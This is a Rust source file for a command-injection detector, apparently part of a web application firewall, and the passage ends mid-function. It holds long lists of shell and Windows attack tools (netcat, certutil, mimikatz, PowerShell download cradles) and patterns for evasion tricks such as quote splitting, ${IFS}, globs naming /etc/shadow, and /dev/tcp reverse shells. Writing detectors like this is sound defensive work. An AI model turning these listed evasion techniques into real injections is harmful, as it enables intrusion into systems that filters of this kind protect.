//! OS command injection on decoded text.
//!
//! The text is first de-obfuscated the way a shell would read it: quotes inside words
//! (`c'a't`), `\` escapes, Windows `^` carets, `$@`, `${IFS}`/`$IFS$9` and brace
//! expansion (`{cat,/etc/passwd}`) removed or turned into spaces. Then every command
//! position — after `;`, `|`, `&`, `&&`, `||`, a newline, `` ` ``, `$(` — is read as a
//! command word (path stripped, `/???/c?t` globs matched) and checked against a
//! vocabulary of Unix and Windows commands. Commands that are also English words
//! (`more`, `type`, `find`, `cat`) need an argument that looks like one (`-x`, a path,
//! a number, a redirection). Shellshock (`() {`), SSI `<!--#exec` and PHP exec calls
//! are recognised directly.

use std::sync::LazyLock;

use memchr::memmem::Finder;

/// Commands that are telling at any command position, arguments or not.
const STRONG: &[&[u8]] = &[
    b"whoami",
    b"uname",
    b"wget",
    b"curl",
    b"nc",
    b"ncat",
    b"netcat",
    b"bash",
    b"sh",
    b"zsh",
    b"ksh",
    b"dash",
    b"csh",
    b"tcsh",
    b"busybox",
    b"powershell",
    b"pwsh",
    b"cmd",
    b"ifconfig",
    b"ipconfig",
    b"systeminfo",
    b"sysinfo",
    b"getuid",
    b"netstat",
    b"nslookup",
    b"tasklist",
    b"taskkill",
    b"certutil",
    b"bitsadmin",
    b"wmic",
    b"net.exe",
    b"passwd",
    b"chmod",
    b"chown",
    b"crontab",
    b"nohup",
    b"telnet",
    b"tftp",
    b"python",
    b"python2",
    b"python3",
    b"perl",
    b"ruby",
    b"php",
    b"lua",
    b"node",
    b"id",
    b"pwd",
    b"ls",
    b"dir",
    b"ps",
    b"env",
    b"printenv",
    b"hostname",
    b"rm",
    b"useradd",
    b"wsl",
    b"mshta",
    b"rundll32",
    b"regsvr32",
    b"cscript",
    b"wscript",
    b"xterm",
    b"socat",
    b"base64",
    b"xxd",
    b"lsb_release",
    b"getent",
    b"sudo",
    b"su",
    b"sleep",
    b"ping",
    b"timeout",
    b"dig",
    b"traceroute",
    b"tracert",
    b"route",
    b"arp",
    b"uptime",
    b"w",
    b"last",
    b"lastlog",
    b"ver",
    b"fsutil",
    b"schtasks",
    b"reg",
    b"sc",
    b"icacls",
    b"cacls",
    b"nmap",
    b"ssh",
    b"scp",
    b"ftp",
    b"awk",
    b"gawk",
    b"sed",
    b"cut",
    b"xargs",
    b"exec",
    b"eval",
    b"system",
    b"kill",
    b"killall",
    b"pkill",
    b"mkfifo",
    b"mknod",
    b"chattr",
    b"dd",
    b"tar",
    b"zip",
    b"unzip",
    b"gzip",
    b"bzip2",
    b"openssl",
    b"java",
    b"jrunscript",
    b"iwr",
    b"iex",
    b"irm",
    b"invoke-webrequest",
    b"invoke-expression",
    b"invoke-restmethod",
    b"start-process",
    b"new-object",
    b"downloadstring",
    b"set-mppreference",
    b"netsh",
    b"ansible-inventory",
    b"kubectl",
    b"docker",
    b"cscli",
    b"mysql",
    b"psql",
    b"sqlcmd",
    // Unix: system and account inspection, packages, services, shells and tooling.
    b"lsof",
    b"lsmod",
    b"modprobe",
    b"insmod",
    b"rmmod",
    b"dmesg",
    b"lscpu",
    b"lsblk",
    b"lspci",
    b"lsusb",
    b"mount",
    b"umount",
    b"fdisk",
    b"blkid",
    b"df",
    b"du",
    b"free",
    b"vmstat",
    b"iostat",
    b"top",
    b"htop",
    b"pstree",
    b"pgrep",
    b"nproc",
    b"sysctl",
    b"systemctl",
    b"service",
    b"journalctl",
    b"chkconfig",
    b"update-rc.d",
    b"initctl",
    b"shutdown",
    b"reboot",
    b"halt",
    b"poweroff",
    b"init",
    b"telinit",
    b"runlevel",
    b"ip",
    b"ss",
    b"iptables",
    b"ip6tables",
    b"nft",
    b"ufw",
    b"tcpdump",
    b"tshark",
    b"ethtool",
    b"iwconfig",
    b"nmcli",
    b"host",
    b"whois",
    b"mtr",
    b"fping",
    b"hping3",
    b"arping",
    b"smbclient",
    b"rpcclient",
    b"showmount",
    b"rsync",
    b"sftp",
    b"rcp",
    b"rlogin",
    b"rsh",
    b"rexec",
    b"ssh-keygen",
    b"ssh-keyscan",
    b"sshpass",
    b"gpg",
    b"useradd",
    b"userdel",
    b"usermod",
    b"adduser",
    b"deluser",
    b"groupadd",
    b"groupdel",
    b"gpasswd",
    b"chpasswd",
    b"chage",
    b"visudo",
    b"vipw",
    b"vigr",
    b"pkexec",
    b"doas",
    b"setfacl",
    b"getfacl",
    b"chgrp",
    b"umask",
    b"setcap",
    b"getcap",
    b"chroot",
    b"strace",
    b"ltrace",
    b"gdb",
    b"objdump",
    b"readelf",
    b"nm",
    b"ldd",
    b"perf",
    b"apt",
    b"apt-get",
    b"apt-cache",
    b"aptitude",
    b"dpkg",
    b"rpm",
    b"yum",
    b"dnf",
    b"zypper",
    b"pacman",
    b"apk",
    b"snap",
    b"flatpak",
    b"emerge",
    b"pip",
    b"pip3",
    b"npm",
    b"npx",
    b"yarn",
    b"gem",
    b"cargo",
    b"composer",
    b"easy_install",
    b"gcc",
    b"cc",
    b"g++",
    b"clang",
    b"make",
    b"cmake",
    b"ld",
    b"as",
    b"javac",
    b"python2.7",
    b"pythonw",
    b"ipython",
    b"pypy",
    b"irb",
    b"php-cgi",
    b"php5",
    b"php7",
    b"php8",
    b"perl5",
    b"tclsh",
    b"wish",
    b"expect",
    b"gawk",
    b"mawk",
    b"nawk",
    b"rbash",
    b"fish",
    b"ash",
    b"mksh",
    b"screen",
    b"tmux",
    b"script",
    b"setsid",
    b"stdbuf",
    b"unbuffer",
    b"watch",
    b"at",
    b"atq",
    b"atrm",
    b"batch",
    b"anacron",
    b"lwp-download",
    b"lwp-request",
    b"lwp-mirror",
    b"lynx",
    b"links",
    b"elinks",
    b"aria2c",
    b"axel",
    b"fetch",
    b"httpie",
    b"http",
    b"curlie",
    b"tor",
    b"torsocks",
    b"proxychains",
    b"ncat",
    b"nc.traditional",
    b"nc.openbsd",
    b"cryptcat",
    b"pwncat",
    b"shred",
    b"wipe",
    b"srm",
    b"truncate",
    b"mkfs",
    b"mkswap",
    b"swapon",
    b"swapoff",
    b"losetup",
    b"cryptsetup",
    b"base32",
    b"basenc",
    b"uuencode",
    b"uudecode",
    b"hexdump",
    b"md5sum",
    b"sha1sum",
    b"sha256sum",
    b"sha512sum",
    b"cksum",
    b"gunzip",
    b"zcat",
    b"bunzip2",
    b"xz",
    b"unxz",
    b"7z",
    b"7za",
    b"unrar",
    b"rar",
    b"bsdtar",
    b"cpio",
    b"ar",
    b"jar",
    b"zipinfo",
    b"vi",
    b"vim",
    b"nvim",
    b"nano",
    b"emacs",
    b"ed",
    b"pico",
    b"joe",
    b"view",
    b"ex",
    b"readlink",
    b"realpath",
    b"stat",
    b"lsattr",
    b"getfattr",
    b"setfattr",
    b"locate",
    b"updatedb",
    b"mlocate",
    b"ansible",
    b"ansible-playbook",
    b"ansible-galaxy",
    b"ansible-vault",
    b"ansible-config",
    b"ansible-console",
    b"ansible-doc",
    b"ansible-pull",
    b"chef",
    b"chef-client",
    b"chef-shell",
    b"chef-run",
    b"chef-solo",
    b"chef-vault",
    b"knife",
    b"puppet",
    b"salt",
    b"salt-call",
    b"terraform",
    b"vagrant",
    b"helm",
    b"podman",
    b"crictl",
    b"ctr",
    b"runc",
    b"lxc",
    b"virsh",
    b"aws",
    b"gcloud",
    b"az",
    b"gsutil",
    b"redis-cli",
    b"mongo",
    b"mongosh",
    b"sqlite3",
    b"mysqldump",
    b"pg_dump",
    b"aa-disable",
    b"aa-status",
    b"aa-enforce",
    b"aa-complain",
    b"setenforce",
    b"getenforce",
    b"sestatus",
    b"auditctl",
    b"ausearch",
    b"iconv",
    b"tr",
    b"column",
    b"awk",
    b"jq",
    b"yq",
    b"bc",
    b"dc",
    b"factor",
    b"seq",
    b"shuf",
    b"yes",
    b"id",
    b"groups",
    b"users",
    b"finger",
    b"pinky",
    b"logname",
    b"whoami",
    b"tty",
    b"stty",
    b"mesg",
    b"wall",
    b"write",
    b"ulimit",
    b"nice",
    b"renice",
    b"ionice",
    b"taskset",
    b"chrt",
    b"unshare",
    b"nsenter",
    b"capsh",
    b"env",
    b"alias",
    b"unalias",
    b"declare",
    b"typeset",
    b"readonly",
    b"unset",
    b"builtin",
    b"command",
    b"compgen",
    b"complete",
    b"history",
    b"fc",
    b"disown",
    b"bg",
    b"fg",
    b"jobs",
    b"trap",
    b"wait",
    b"ll",
    // Windows: cmd.exe built-ins, system tools, LOLBins and PowerShell aliases.
    b"cmd.exe",
    b"command.com",
    b"powershell.exe",
    b"pwsh.exe",
    b"conhost",
    b"bcdboot",
    b"bcdedit",
    b"bootcfg",
    b"regedit",
    b"regedt32",
    b"reg.exe",
    b"regini",
    b"regsvcs",
    b"regasm",
    b"installutil",
    b"msbuild",
    b"msiexec",
    b"msxsl",
    b"odbcconf",
    b"pcalua",
    b"forfiles",
    b"cmstp",
    b"control",
    b"diskshadow",
    b"dnscmd",
    b"esentutl",
    b"expand",
    b"extrac32",
    b"findstr",
    b"hh",
    b"ieexec",
    b"makecab",
    b"mavinject",
    b"msconfig",
    b"msdt",
    b"netsh.exe",
    b"nltest",
    b"ntdsutil",
    b"presentationhost",
    b"print",
    b"replace",
    b"rpcping",
    b"runas",
    b"runonce",
    b"sdbinst",
    b"syncappvpublishingserver",
    b"vssadmin",
    b"wbadmin",
    b"wevtutil",
    b"winrm",
    b"winrs",
    b"wmic.exe",
    b"xcopy",
    b"robocopy",
    b"attrib",
    b"cipher",
    b"compact",
    b"diskpart",
    b"driverquery",
    b"getmac",
    b"gpresult",
    b"gpupdate",
    b"klist",
    b"logman",
    b"mountvol",
    b"nbtstat",
    b"openfiles",
    b"pathping",
    b"qprocess",
    b"query",
    b"quser",
    b"qwinsta",
    b"rwinsta",
    b"sfc",
    b"takeown",
    b"tscon",
    b"tskill",
    b"whoami.exe",
    b"wusa",
    b"auditpol",
    b"setx",
    b"sxstrace",
    b"tzutil",
    b"verifier",
    b"vol",
    b"wecutil",
    b"where",
    b"psexec",
    b"psexec64",
    b"procdump",
    b"mimikatz",
    b"ntdsutil.exe",
    b"dsquery",
    b"dsget",
    b"csvde",
    b"ldifde",
    b"adfind",
    b"cmdkey",
    b"mklink",
    b"pushd",
    b"popd",
    b"iwmi",
    b"gwmi",
    b"icm",
    b"saps",
    b"sal",
    b"gci",
    b"gc",
    b"sls",
    b"gps",
    b"spps",
    b"iwr.exe",
    b"curl.exe",
    b"wget.exe",
    b"get-content",
    b"get-childitem",
    b"get-process",
    b"get-wmiobject",
    b"get-ciminstance",
    b"invoke-wmimethod",
    b"invoke-command",
    b"invoke-item",
    b"invoke-mimikatz",
    b"set-executionpolicy",
    b"add-mppreference",
    b"new-service",
    b"set-itemproperty",
    b"new-itemproperty",
    b"remove-item",
    b"copy-item",
    b"out-file",
    b"set-content",
    b"add-content",
    b"test-netconnection",
    b"start-bitstransfer",
    b"get-localuser",
    b"net1",
];

/// Vocabulary entries that are also English or common identifiers: judged like [`WEAK`]
/// (they need shell-looking arguments) even though they are listed above.
const ENGLISH: &[&[u8]] = &[
    b"at",
    b"batch",
    b"view",
    b"control",
    b"expand",
    b"replace",
    b"query",
    b"print",
    b"where",
    b"write",
    b"wait",
    b"complete",
    b"history",
    b"command",
    b"free",
    b"top",
    b"make",
    b"as",
    b"http",
    b"fetch",
    b"links",
    b"watch",
    b"script",
    b"screen",
    b"tor",
    b"ex",
    b"ed",
    b"yes",
    b"users",
    b"groups",
    b"factor",
    b"seq",
    b"column",
    b"stat",
    b"locate",
    b"init",
    b"service",
    b"mount",
    b"halt",
    b"compact",
    b"vol",
    b"jobs",
    b"trap",
    b"fg",
    b"bg",
    b"fc",
    b"tr",
    b"bc",
    b"dc",
    b"cc",
    b"ld",
    b"ar",
    b"jar",
    b"wish",
    b"expect",
    b"finger",
    b"chef",
    b"salt",
    b"puppet",
    b"knife",
    b"snap",
    b"apk",
    b"gem",
    b"cargo",
    b"sleep",
    b"last",
    b"route",
    b"system",
    b"time",
    b"kill",
    b"node",
    b"java",
    b"ruby",
    b"lua",
    b"dig",
    b"cut",
    b"zip",
    b"tar",
    b"reg",
    b"sc",
    b"sal",
    b"gc",
    b"gps",
    b"icm",
    b"ip",
    b"ss",
    b"as",
    b"nm",
    b"hh",
    b"aws",
    b"az",
    b"ctr",
    b"helm",
    b"lynx",
    b"emacs",
    b"vi",
    b"nano",
    b"pico",
    b"joe",
    b"alias",
    b"declare",
    b"readonly",
    b"unset",
    b"builtin",
    b"tty",
    b"nice",
    b"date",
    b"cipher",
    b"attrib",
    b"where",
    b"sfc",
    b"ver",
    b"dd",
    b"w",
    b"exec",
    b"eval",
];

/// Commands that are also ordinary words: need an argument that looks like one.
const WEAK: &[&[u8]] = &[
    b"cat", b"echo", b"type", b"more", b"less", b"head", b"tail", b"find", b"grep", b"sort",
    b"which", b"whereis", b"set", b"host", b"net", b"who", b"time", b"date", b"cp", b"mv",
    b"touch", b"mkdir", b"printf", b"expr", b"file", b"strings", b"od", b"uniq", b"wc", b"diff",
    b"test", b"read", b"export", b"start", b"call", b"copy", b"del", b"tee", b"nl", b"rev", b"tac",
    b"ln", b"cd", b"source", b"print",
];

/// Judges decoded, case-folded text; returns (reason, offset) for command injection.
pub fn detect(t: &[u8]) -> Option<(&'static str, usize)> {
    // Byte guards first: most values reaching here hold none of `{ < ( %`.
    let has = |b: u8| memchr::memchr(b, t).is_some();
    let (brace, angle, paren, pct) = (has(b'{'), has(b'<'), has(b'('), has(b'%'));
    if let Some(p) = brace.then(|| memchr::memmem::find(t, b"() {")).flatten() {
        return Some(("shellshock function definition", p));
    }
    if let Some(p) = angle
        .then(|| memchr::memmem::find(t, b"<!--#exec"))
        .flatten()
    {
        return Some(("SSI exec directive", p));
    }
    if let Some(r) = paren.then(|| php_exec(t)).flatten() {
        return Some(r);
    }
    if let Some(p) = php_superglobal(t) {
        return Some(("PHP superglobal read in an interpolation", p));
    }
    if let Some(p) = (paren || pct).then(|| batch_control(t)).flatten() {
        return Some(("Windows batch for/if construct", p));
    }
    if let Some(p) = batch_if(t) {
        return Some(("Windows batch if statement", p));
    }
    if let Some(r) = shell_syntax(t) {
        return Some(r);
    }
    if let Some(r) = lone_probe(t) {
        return Some(r);
    }
    let s = deobfuscate(t);
    // Quotes, carets or backslashes inside a word (`wh'o'ami`, `c^md`) only make sense
    // to hide a command from filters: treat every position as a command position.
    let hidden = in_word_obfuscation(t);
    for (pos, after_sep) in command_positions(&s) {
        if let Some(reason) = command_at(&s, pos, after_sep || hidden) {
            return Some((reason, pos.min(t.len())));
        }
    }
    if let Some(p) = has(b'/').then(|| DEV_TCP.find(&s)).flatten() {
        return Some(("/dev/tcp reverse shell", p.min(t.len())));
    }
    if let Some(p) = brace.then(|| brace_command(t)).flatten() {
        return Some(("brace expansion spelling a command", p));
    }
    if let Some(p) = glob_target(&s) {
        return Some(("glob spelling a system file", p.min(t.len())));
    }
    None
}

/// Files and directories that globs (`/???/c?t`, `/et*/*wd`, `/[e]tc/pa[?]swd`) are
/// used to name without writing them.
const GLOB_TARGETS: &[&[u8]] = &[
    b"/etc/passwd",
    b"/etc/shadow",
    b"/etc/hosts",
    b"/etc/group",
    b"/etc",
    b"/bin/sh",
    b"/bin/bash",
    b"/bin/cat",
    b"/bin/nc",
    b"/usr/bin/id",
    b"/usr/bin/wget",
    b"/usr/bin/curl",
    b"/proc/self/environ",
    b"/bin/busybox",
];

/// An absolute-path word holding glob characters that expands to a [`GLOB_TARGETS`] entry.
fn glob_target(s: &[u8]) -> Option<usize> {
    if !s.iter().any(|b| matches!(b, b'?' | b'*' | b'[')) {
        return None;
    }
    let mut at = 0;
    for word in s.split(|b| matches!(b, b' ' | b'+' | b'=' | b';' | b'|' | b'&' | b'\n')) {
        let start = at;
        at += word.len() + 1;
        let globbed = word.iter().any(|b| matches!(b, b'?' | b'*' | b'['));
        if word.starts_with(b"/") && globbed && GLOB_TARGETS.iter().any(|t| glob(word, t)) {
            return Some(start);
        }
    }
    None
}

/// System-inspection commands that are no word of any language (`whoami`, `ifconfig`):
/// alone as a whole value they are a probe.
const RECON: &[&[u8]] = &[
    b"whoami",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"systeminfo",
    b"sysinfo",
    b"uname",
    b"pwd",
    b"tasklist",
    b"getuid",
    b"lsb_release",
    b"printenv",
    b"hostnamectl",
];

/// A raw `name=value` whose value is exactly a [`RECON`] command in any case; cheap
/// enough for query values that hold no suspicious byte. Returns the value's offset.
pub fn recon_value(seg: &[u8]) -> Option<usize> {
    let at = memchr::memchr(b'=', seg).map_or(0, |e| e + 1);
    let v = &seg[at..];
    (v.len() >= 3 && v.len() <= 12 && RECON.iter().any(|r| v.eq_ignore_ascii_case(r))).then_some(at)
}

/// A whole value that is a recon command (`whoami`), a time-based probe (`sleep 5`) or a
/// lookup of a tool (`which nc`).
fn lone_probe(t: &[u8]) -> Option<(&'static str, usize)> {
    let at = memchr::memchr(b'=', t).map_or(0, |e| e + 1);
    // `;`, `||`, `` ` ``, a newline: a value of nothing but command separators is the
    // probe a fuzzer sends to see which of them reach a shell unescaped.
    let raw = &t[at..];
    if raw.iter().all(|b| b" \n;|&`".contains(b)) && raw.iter().any(|b| b"\n;|&`".contains(b)) {
        return Some(("command separator probe", at));
    }
    let v = deobfuscate(t[at..].trim_ascii());
    let v = v.trim_ascii();
    if RECON.contains(&v) {
        return Some(("recon command as the whole value", at));
    }
    let (head, arg) = match v.iter().position(|b| *b == b' ') {
        Some(sp) => (&v[..sp], v[sp + 1..].trim_ascii()),
        None => return None,
    };
    if head == b"sleep" && !arg.is_empty() && arg.iter().all(u8::is_ascii_digit) {
        return Some(("sleep as a time-based probe", at));
    }
    let single = !arg.is_empty() && !arg.contains(&b' ');
    if matches!(head, b"which" | b"whereis")
        && single
        && lookup(STRONG, arg)
        && !lookup(ENGLISH, arg)
    {
        return Some(("lookup of an attack tool", at));
    }
    None
}

/// Windows administration verbs (`net user`, `netsh firewall`, `reg add`, `sc create`)
/// and interpreters handed inline code (`sh -c`, `cmd /c`, `python -c`, `php -r`).
fn admin_or_inline(base: &[u8], rest: &[u8]) -> Option<&'static str> {
    const ADMIN: &[(&[u8], &[&[u8]])] = &[
        (
            b"netsh",
            &[
                b" firewall",
                b" advfirewall",
                b" interface",
                b" wlan",
                b" winhttp",
                b" http ",
            ],
        ),
        (
            b"reg",
            &[
                b" add ",
                b" query ",
                b" delete ",
                b" save ",
                b" export ",
                b" import ",
            ],
        ),
        (
            b"sc",
            &[b" create ", b" config ", b" stop ", b" delete ", b" qc "],
        ),
        (
            b"wmic",
            &[
                b" process",
                b" os ",
                b" useraccount",
                b" service",
                b" shadowcopy",
                b" /node",
            ],
        ),
        (
            b"schtasks",
            &[b" /create", b" /run", b" /query", b" /delete"],
        ),
    ];
    if windows_net(base, rest) {
        return Some("Windows net command");
    }
    for (cmd, subs) in ADMIN {
        if base == *cmd && subs.iter().any(|s| rest.starts_with(s)) {
            return Some("Windows administration command");
        }
    }
    const SHELLS: &[&[u8]] = &[
        b"sh",
        b"bash",
        b"dash",
        b"zsh",
        b"ksh",
        b"ash",
        b"busybox",
        b"cmd",
        b"powershell",
        b"pwsh",
        b"python",
        b"python2",
        b"python3",
        b"perl",
        b"ruby",
        b"php",
        b"node",
    ];
    const INLINE: &[&[u8]] = &[
        b" -c ",
        b" /c ",
        b" /k ",
        b" -e ",
        b" -r ",
        b" -enc",
        b" -command ",
        b" -encodedcommand",
        b" -nop",
        b" -w hidden",
    ];
    if SHELLS.contains(&base) && INLINE.iter().any(|o| rest.starts_with(o)) {
        return Some("interpreter running inline code");
    }
    None
}

/// Shell-only syntax that no ordinary value holds: arithmetic and parameter expansion
/// (`$[1+1]`, `$((…))`, `${x#…}`), process substitution (`<(cat f)`), history
/// (`!-2`), directory-stack tildes (`~+`, `~-1`), alias definitions, and output
/// redirection into a system directory (`>/tmp/x`).
fn shell_syntax(t: &[u8]) -> Option<(&'static str, usize)> {
    let value_at = memchr::memchr(b'=', t).map_or(0, |e| e + 1);
    let value = &t[value_at..];
    if let Some(p) = expansion(t) {
        return Some(("shell expansion syntax", p));
    }
    if let Some(p) = process_substitution(t) {
        return Some(("shell process substitution", p));
    }
    if tilde_expansion(value) {
        return Some(("shell directory-stack tilde", value_at));
    }
    if let Some(p) = HISTORY
        .find(value)
        .filter(|p| value.get(p + 2).is_some_and(u8::is_ascii_digit))
        .filter(|p| *p == 0 || matches!(value[p - 1], b' ' | b';' | b'|' | b'&' | b'0'..=b'9'))
    {
        return Some(("shell history expansion", value_at + p));
    }
    if let Some(p) = alias_definition(value) {
        return Some(("shell alias definition", value_at + p));
    }
    if let Some(p) = system_redirect(t) {
        return Some(("output redirection into a system directory", p));
    }
    if let Some(p) = mail_protocol_line(value) {
        return Some(("mail protocol command after CRLF", value_at + p));
    }
    if let Some(p) = sqlite_dot_command(t) {
        return Some(("SQLite shell dot command", p));
    }
    None
}

/// A value opening with CRLF and then an SMTP, POP3 or IMAP command: the request
/// smuggles a line into a mail session (`%0d%0aRCPT TO:<x>`, `%0d%0aa001 EXAMINE inbox`).
fn mail_protocol_line(value: &[u8]) -> Option<usize> {
    const VERBS: &[&[u8]] = &[
        b"mail from:",
        b"rcpt to:",
        b"ehlo ",
        b"helo ",
        b"data",
        b"quit",
        b"rset",
        b"vrfy ",
        b"expn ",
        b"retr ",
        b"list",
        b"top ",
        b"auth ",
        b"apop ",
        b"stat",
        b"dele ",
        b"uidl",
        b"user ",
        b"pass ",
        b"noop",
        b"help",
        b"starttls",
    ];
    const IMAP: &[&[u8]] = &[
        b"examine ",
        b"select ",
        b"login ",
        b"fetch ",
        b"uid ",
        b"store ",
        b"capability",
        b"logout",
        b"authenticate ",
        b"list ",
        b"create ",
        b"delete ",
        b"append ",
    ];
    if !value.starts_with(b"\n") {
        return None;
    }
    let line = value.trim_ascii_start();
    let whole = |v: &[u8]| {
        line.len() == v.len()
            || !v.last().is_some_and(u8::is_ascii_alphabetic)
            || !line[v.len()].is_ascii_alphanumeric()
    };
    if VERBS.iter().any(|v| line.starts_with(v) && whole(v)) {
        return Some(0);
    }
    let tag = line
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric())
        .count();
    let after = line.get(tag + 1..)?;
    (tag > 0 && line.get(tag) == Some(&b' ') && IMAP.iter().any(|v| after.starts_with(v)))
        .then_some(0)
}

/// `;\n.shell …`, `\n.system …`, `\n.databases`: sqlite3 shell meta-commands at the
/// start of a line (a newline byte or a literal `\n` that the sink unescapes).
fn sqlite_dot_command(t: &[u8]) -> Option<usize> {
    const DOTS: [&[u8]; 9] = [
        b".shell",
        b".system",
        b".databases",
        b".tables",
        b".dump",
        b".import",
        b".output",
        b".load",
        b".schema",
    ];
    memchr::memchr(b'.', t)?;
    for dot in DOTS {
        let Some(at) = memchr::memmem::find(t, dot) else {
            continue;
        };
        let blanks = t[..at].iter().rev().take_while(|b| **b == b' ').count();
        let before = &t[..at - blanks];
        if before.ends_with(b"\n") || before.ends_with(b"\\n") {
            return Some(at);
        }
    }
    None
}

/// `$[…]` with arithmetic (not a JSONPath `$[0]`), `$((`, `${name#…}`-style operators.
fn expansion(t: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(off) = memchr::memchr(b'$', &t[from..]) {
        let at = from + off;
        from = at + 1;
        let rest = &t[at + 1..];
        match rest.first() {
            Some(b'[') => {
                let close = rest.iter().position(|b| *b == b']')?;
                let inner = &rest[1..close];
                let arith = inner
                    .iter()
                    .all(|b| b.is_ascii_digit() || b"+-*/% ".contains(b));
                if arith && (inner.is_empty() || inner.iter().any(|b| b"+-*/%".contains(b))) {
                    return Some(at);
                }
            }
            Some(b'(') if rest.get(1) == Some(&b'(') => return Some(at),
            Some(b'{') => {
                let name = rest[1..]
                    .iter()
                    .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                    .count();
                let op = rest.get(1 + name).copied();
                if name > 0 && matches!(op, Some(b'#' | b'%' | b'/' | b'^' | b',' | b'@')) {
                    return Some(at);
                }
                // `${:…:-…}`: a default-value expansion on an empty name (log4j evasion).
                if name == 0 && op == Some(b':') && memchr::memmem::find(rest, b":-").is_some() {
                    return Some(at);
                }
            }
            _ => {}
        }
    }
    None
}

/// `<(cmd …)` / `>(cmd …)`: a command word right inside.
fn process_substitution(t: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(off) = memchr::memchr(b'(', &t[from..]) {
        let at = from + off;
        from = at + 1;
        if at == 0 || !matches!(t[at - 1], b'<' | b'>') {
            continue;
        }
        let inner = deobfuscate(&t[at + 1..]);
        let Some((_, word)) = word_at(&inner, 0) else {
            continue;
        };
        let base = word.rsplit(|b| *b == b'/').next().unwrap_or(word);
        if lookup(STRONG, base) || lookup(WEAK, base) {
            return Some(at - 1);
        }
    }
    None
}

/// The whole value is `~+`, `~-`, optionally with a stack index (`~-1`, `~+5`).
fn tilde_expansion(value: &[u8]) -> bool {
    let v = value.trim_ascii();
    v.len() >= 2
        && v[0] == b'~'
        && matches!(v[1], b'+' | b'-')
        && v[2..].iter().all(u8::is_ascii_digit)
}

/// `alias name=value` / `alias +m …`: defining a shell alias.
fn alias_definition(value: &[u8]) -> Option<usize> {
    let p = ALIAS.find(value)?;
    if p > 0 && !matches!(value[p - 1], b' ' | b';' | b'|' | b'&' | b'\n') {
        return None;
    }
    let arg = value[p + 6..].trim_ascii_start();
    let name = arg
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    let defines = name > 0 && arg.get(name) == Some(&b'=');
    let option =
        matches!(arg.first(), Some(b'+' | b'-')) && arg.get(1).is_some_and(u8::is_ascii_alphabetic);
    (defines || option).then_some(p)
}

/// `>/tmp/x`, `>> /var/www/shell.php`: writing into a system directory.
fn system_redirect(t: &[u8]) -> Option<usize> {
    const DIRS: [&[u8]; 8] = [
        b"/tmp/", b"/var/", b"/dev/", b"/etc/", b"/root/", b"/usr/", b"/home/", b"/opt/",
    ];
    let mut from = 0;
    while let Some(off) = memchr::memchr(b'>', &t[from..]) {
        let at = from + off;
        from = at + 1;
        let mut k = at + 1;
        while matches!(t.get(k), Some(b'>' | b' ' | b'&')) {
            k += 1;
        }
        let target = &t[k..];
        let before = at.checked_sub(1).map(|i| t[i]);
        let opens = matches!(before, None | Some(b'=' | b' ' | b'0'..=b'9' | b';' | b'|'));
        if opens && DIRS.iter().any(|d| target.starts_with(d)) {
            return Some(at);
        }
    }
    None
}

/// `if [/i] [not] exist|defined|errorlevel|cmdextversion …` or `if a==b cmd`, `if x equ y
/// cmd`: cmd.exe conditionals at the start of a value or after a separator.
fn batch_if(t: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(off) = IF.find(&t[from..]) {
        let at = from + off;
        from = at + 2;
        let before = at.checked_sub(1).map(|i| t[i]);
        if !matches!(
            before,
            None | Some(b'=' | b'&' | b'|' | b';' | b'(' | b'\n' | b'@')
        ) {
            continue;
        }
        let rest = &t[at + 2..];
        if !matches!(rest.first(), Some(b' ' | b'/')) {
            continue;
        }
        if batch_condition(rest) {
            return Some(at);
        }
    }
    None
}

/// The condition after `if`: options, `not`, then a cmd.exe test keyword or comparison.
fn batch_condition(rest: &[u8]) -> bool {
    let mut words = rest
        .split(|b| *b == b' ')
        .filter(|w| !w.is_empty())
        .take(6)
        .peekable();
    while let Some(w) = words.next_if(|w| *w == b"/i" || *w == b"not") {
        let _ = w;
    }
    let Some(first) = words.next() else {
        return false;
    };
    const TESTS: [&[u8]; 4] = [b"exist", b"defined", b"errorlevel", b"cmdextversion"];
    if TESTS.contains(&first) {
        return words.next().is_some();
    }
    if first.len() > 2 && memchr::memmem::find(first, b"==").is_some() {
        return words.next().is_some();
    }
    const OPS: [&[u8]; 7] = [b"==", b"equ", b"neq", b"lss", b"leq", b"gtr", b"geq"];
    matches!(words.next(), Some(op) if OPS.contains(&op)) && words.next().is_some()
}

/// `{l,-lh}s`, `c{a,oun}t`, `{,ifconfig}`, `{id,}`: bash brace expansion whose words
/// build a command. Needs a comma and no blank, quote-free JSON-like text excluded.
fn brace_command(t: &[u8]) -> Option<usize> {
    let mut from = 0;
    while let Some(off) = memchr::memchr(b'{', &t[from..]) {
        let open = from + off;
        from = open + 1;
        let Some(len) = t[open + 1..].iter().take(96).position(|b| *b == b'}') else {
            continue;
        };
        let inner = &t[open + 1..open + 1 + len];
        if memchr::memchr(b',', inner).is_none() || inner.iter().any(|b| b" \":{".contains(b)) {
            continue;
        }
        let word = |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'/' | b'.');
        let pre_len = t[..open].iter().rev().take_while(|b| word(b)).count();
        let prefix = &t[open - pre_len..open];
        let close = open + 1 + len;
        let suf_len = t[close + 1..].iter().take_while(|b| word(b)).count();
        let suffix = &t[close + 1..close + 1 + suf_len];
        let alts: Vec<&[u8]> = inner.split(|b| *b == b',').collect();
        let shaped = !prefix.is_empty()
            || !suffix.is_empty()
            || alts
                .iter()
                .any(|a| a.is_empty() || matches!(a[0], b'-' | b'/' | b'$' | b'\'' | b'#'));
        if !shaped {
            continue;
        }
        for alt in alts.iter().filter(|a| !a.is_empty()) {
            let mut cand = Vec::with_capacity(prefix.len() + alt.len() + suffix.len());
            cand.extend_from_slice(prefix);
            cand.extend_from_slice(alt);
            cand.extend_from_slice(suffix);
            let cand = deobfuscate(&cand);
            let cand: &[u8] = cand.strip_prefix(b"$").unwrap_or(&cand);
            let base = cand.rsplit(|b| *b == b'/').next().unwrap_or(cand);
            if lookup(STRONG, base) || lookup(WEAK, base) {
                return Some(open - pre_len);
            }
        }
    }
    None
}

/// `system('…')`, `passthru(`, `shell_exec(`, `popen(`, `proc_open(` with an argument.
fn php_exec(t: &[u8]) -> Option<(&'static str, usize)> {
    let calls = [
